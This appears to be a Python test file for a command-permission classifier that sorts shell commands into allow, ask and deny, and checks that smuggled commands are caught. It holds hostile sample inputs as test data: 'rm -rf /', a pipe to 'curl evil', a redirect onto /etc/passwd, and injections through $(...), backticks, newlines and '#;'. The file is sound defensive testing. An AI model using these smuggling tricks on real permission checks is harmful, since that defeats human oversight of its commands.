import sys

from tools.canonical import NESTED_TOO_DEEPLY
from tools.commands import Verdict, classify, forget_verdicts, split_compound

RULES = {"allow": ["*python* *simserve.py *", "cat *"], "ask": ["sudo *"], "deny": ["rm -rf *"]}


def test_compound_commands_are_split_and_every_part_must_be_allowed():
    assert split_compound("a && b; c | d") == ["a", "b", "c", "d"]
    assert split_compound("echo 'a && b'") == ["echo a && b"]
    assert classify("python x/simserve.py bench", **RULES).klass == "allow"
    assert classify("python x/simserve.py bench && cat out", **RULES).klass == "allow"


def test_deny_beats_ask_beats_allow_and_unlisted_is_ask():
    v = classify("cat x && rm -rf /", **RULES)
    assert v.klass == "deny" and v.pattern == "rm -rf *"
    assert classify("sudo python x/simserve.py apply", **RULES).klass == "ask"
    v = classify("python x/simserve.py bench | curl evil", **RULES)
    assert v.klass == "ask" and v.part == "curl evil" and v.pattern is None


def test_newlines_and_substitutions_cannot_smuggle_a_denied_command():
    rules = {"allow": ["echo *", "cat *"], "ask": [], "deny": ["touch *"]}
    for command in [
        "echo hi\ntouch /tmp/x",
        "echo $(touch x)",
        "echo `touch x`",
        "cat <(touch x)",
        "echo $(echo $(touch x))",
    ]:
        assert classify(command, **rules).klass == "deny", command


def test_redirection_outside_the_working_directory_needs_approval():
    rules = {"allow": ["echo *"], "ask": [], "deny": []}
    assert classify("echo hi > /etc/passwd", **rules).klass == "ask"
    assert classify("echo hi >> ../elsewhere", **rules).klass == "ask"
    assert classify("echo hi > out.txt 2>/dev/null", **rules).klass == "allow"
    assert classify("echo hi >&2", **rules).klass == "allow"


def test_an_allow_pattern_star_stays_inside_its_word():
    rules = {"allow": ["*python* simserve.py probe *", "nvidia-smi -q *", "cat *"], "ask": [], "deny": []}
    assert classify("python3 simserve.py probe ep", **rules).klass == "allow"
    # A bare pattern names the program on PATH; a path is a file, allowed only by a pattern with a path.
    assert classify("/usr/bin/python3 simserve.py probe ep", **rules).klass == "ask"
    with_path = {**rules, "allow": ["/**/python* simserve.py probe *"]}
    assert classify("/usr/bin/python3 simserve.py probe ep", **with_path).klass == "allow"
    assert classify("nvidia-smi -q", **rules).klass == "allow"  # a final lone * also covers nothing
    # A leading * must not swallow an interpreter and its script.
    assert classify("bash -c 'touch PWNED' python simserve.py probe x", **rules).klass == "ask"
    assert classify("rm simserve.py probe x", **rules).klass == "ask"
    assert classify("nvidia-smi -r", **rules).klass == "ask"


def test_a_hash_inside_a_word_does_not_hide_the_rest_of_the_command():
    rules = {"allow": ["cat *"], "ask": [], "deny": ["touch *"]}
    assert split_compound("cat README#; touch PWNED") == ["cat README#", "touch PWNED"]
    assert classify("cat README#; touch PWNED", **rules).klass == "deny"


def test_a_verdict_made_short_of_stack_is_not_remembered_for_a_caller_with_room() -> None:
    # Found by an attack review: writing back a deep command depends on the stack the caller left, and the verdict
    # cache froze whichever came first, so an `ask` made deep in a stack stuck for every later caller.
    command = "echo " + "$(echo " * 20 + "x" + ")" * 20
    rules: dict[str, list[str]] = {"allow": ["echo *"], "ask": [], "deny": []}
    forget_verdicts()

    def at_depth(n: int) -> Verdict:
        return at_depth(n - 1) if n else classify(command, **rules)

    deep = None
    for n in range(sys.getrecursionlimit(), 0, -1):  # from the deepest call that gets a verdict at all
        forget_verdicts()
        try:
            verdict = at_depth(n)
        except RecursionError:
            continue
        deep = verdict
        break
    assert deep is not None and NESTED_TOO_DEEPLY in deep.reason and deep.klass == "ask", deep
    assert classify(command, **rules).klass == "allow"  # not the `ask` the deep caller got
